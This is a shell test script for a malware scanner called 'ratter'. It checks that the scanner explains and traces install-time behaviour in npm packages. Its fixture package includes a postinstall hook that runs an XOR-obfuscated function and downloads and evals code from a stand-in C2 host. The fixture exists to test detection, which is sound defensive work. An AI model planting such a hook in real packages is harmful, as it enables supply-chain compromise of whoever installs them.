# explain_test.sh - the event log: ratter explain for people, ratter scan --trace for machines.
. "$(dirname "$0")/lib.sh"
mkdir "$tmp/p"
cat >"$tmp/p/package.json" <<'END'
{"name":"p","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}
END
cat >"$tmp/p/setup.js" <<'END'
const https = require('https');
const go = new Function([..."bnornmd/mnf)#idmmn!]y0cZ20l#(:"].map(c => String.fromCharCode(c.charCodeAt() ^ 1)).join(''));
go();
https.get('https://c2.example.invalid/a', r => r.on('data', d => eval(String(d))));
END
echo 'module.exports = 1;' >"$tmp/p/index.js"
expect 'explain: 0' 0 ratter explain "$tmp/p"
holds 'explain tells the request, defanged' out 'net\.request  url=hxxps://c2\[\.\]example\[\.\]invalid/a  method=GET'
holds 'explain tells what came of it' out '→ code\.eval.*from [0-9]'
holds 'explain tells the time' out '^ *[0-9]+ +[0-9]+ ms  install'
holds 'explain shows the evaluated layer' out '^#[0-9]+  evaluated '
holds 'explain shows its text' out 'console\.log\("hello '
lacks 'explain passes no escape on' out "$(printf '\033')"
expect 'explain -v: 0' 0 ratter explain -v "$tmp/p"
expect 'explain without a path: 2' 2 ratter explain
expect 'explain of two: 2' 2 ratter explain "$tmp/p" "$tmp/p"
expect 'explain of nothing there: 3' 3 ratter explain "$tmp/no-such-thing"
expect 'explain of a pipe' 0 sh -c 'tar -C "$2" -cz p | "$1" explain -' sh "$RATTER" "$tmp"
holds 'explain of a pipe tells' out 'net\.request'
expect 'scan --trace: 1' 1 ratter scan --trace "$tmp/log" "$tmp/p"
check '--trace writes JSON lines, causes first' python3 -c 'import json,sys
lines = [json.loads(l) for l in open(sys.argv[1])]
events = [l for l in lines if l["kind"] == "event"]
layers = [l for l in lines if l["kind"] == "layer"]
assert lines[-1]["kind"] == "end" and lines[-1]["verdict"] == "malicious" and lines[-1]["events"] == len(events)
evals = [e for e in events if e["what"] == "code.eval" and e["because"]]
assert evals and all(c < e["event"] for e in events for c in e["because"]), evals
assert any(e["what"] == "net.request" and e["args"]["url"] == "https://c2.example.invalid/a" for e in events)
assert any(l["via"] == "evaluated" and "hello" in l["text"] for l in layers)' "$tmp/log"
expect '--trace twice into one file: 2' 2 ratter scan --trace "$tmp/log" --trace "$tmp/log" "$tmp/p"
expect '--trace with --emulate never' 1 ratter scan --emulate never --trace "$tmp/log" "$tmp/p"
check 'no event then' sh -c '! grep -q "\"kind\":\"event\"" "$1"' sh "$tmp/log"
finish
